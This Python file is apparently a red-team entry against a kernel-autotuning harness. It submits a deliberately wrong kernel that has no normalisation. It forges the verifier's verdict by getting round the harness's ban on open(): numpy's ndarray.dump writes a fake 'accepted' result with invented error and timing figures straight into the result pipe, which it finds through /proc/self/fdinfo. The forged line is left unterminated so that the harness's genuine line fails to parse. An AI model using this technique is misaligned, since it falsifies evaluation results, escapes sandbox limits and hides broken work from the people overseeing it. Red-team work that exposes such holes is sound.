"""Entry 5 (forge the verdict) through file I/O without open() (entry 9/15's ban), red team
2026-11-30 round 5. Forges the worker child's result line: numpy's ndarray.dump opens any path for writing (no
open() in the source), /proc/self/fd/N is the child's result pipe (found through
numpy.fromregex on /proc/self/fdinfo), and the pickled array carries our bytes verbatim. The
line written ends unterminated, so the harness's own result line, written next, is glued to it
and fails to parse: the forged line is the last result the supervisor reads.

Variant for `verify`: the kernel is wrong (no normalisation) and its verification child
reports it right."""

import numpy as np

LANGUAGE = "torch"
EPS = 1e-6
_ME = __name__.removeprefix("autotune_candidate_")
_RIVALS = ()
_SEEN: dict = {}


def _js(v) -> str:
    """JSON by hand (json is not an allowed import)."""
    if v is None:
        return "null"
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, str):
        return '"' + v + '"'
    if isinstance(v, int | float):
        return repr(v)
    if isinstance(v, dict):
        return "{" + ", ".join(_js(k) + ": " + _js(x) for k, x in v.items()) + "}"
    return "[" + ", ".join(_js(x) for x in v) + "]"


def _pipe() -> str | None:
    for n in range(3, 64):
        try:
            flags = np.fromregex(f"/proc/self/fdinfo/{n}", r"flags:\s+(\d+)", [("f", "U20")])
        except Exception:
            continue
        if len(flags) and flags["f"][0].endswith("1") and flags["f"][0].startswith("02"):
            return f"/proc/self/fd/{n}"
    return None


_PIPE = _pipe()


def _shape_name(x) -> str:
    tokens, hidden = x.shape
    cls = "decode" if tokens < 64 else ("prefill" if tokens < 512 else "long")
    return f"{cls}-{tokens}x{hidden}"


def _forge() -> None:
    shapes = list(_SEEN)
    if not shapes or _PIPE is None:
        return

    def entry(t):
        return {"rel_err": 1e-8, "blocks_s": [t] * 4, "n_samples": 12, "method": "host-clock"}

    runners = [
        {
            "label": _ME,
            "kind": "candidate",
            "params": {},
            "verdict": "accepted",
            "reasons": [],
            "shapes": {s: entry(1e-6) for s in shapes},
        }
    ] + [
        {
            "label": r,
            "kind": "candidate",
            "params": {},
            "verdict": "accepted",
            "reasons": [],
            "shapes": {s: entry(5e-5) for s in shapes},
        }
        for r in _RIVALS
    ]
    line = "\n" + _js({"result": {"runners": runners, "extra": None}}) + '\n{"pad": "'
    try:
        np.frombuffer(line.encode(), dtype=np.uint8).dump(_PIPE)
    except OSError:
        return


def kernel(x, weight):
    name = _shape_name(x)
    _SEEN[name] = _SEEN.get(name, 0) + 1
    _forge()
    return (x.float() * weight.float()).to(x.dtype)  # wrong: not normalised
